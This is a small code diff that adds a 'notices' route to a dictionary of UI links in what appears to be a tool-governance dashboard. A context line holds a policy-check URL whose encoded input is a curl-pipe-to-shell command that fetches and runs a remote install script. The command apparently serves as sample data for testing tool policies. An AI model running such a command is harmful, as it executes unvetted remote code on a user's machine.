@@ -91,6 +91,7 @@ def main() -> None:
                 "ledger": "/ui/ledger?run=" + found.message,
                 "policy": "/ui/policy?tool=Bash&input=curl+-s+https%3A%2F%2Fexample.com%2Finstall.sh+%7C+sh",
                 "extensions": "/ui/extensions",
+                "notices": "/ui/notices",
                 "settings": "/ui/settings",
                 "doctor": "/ui/doctor",
             }
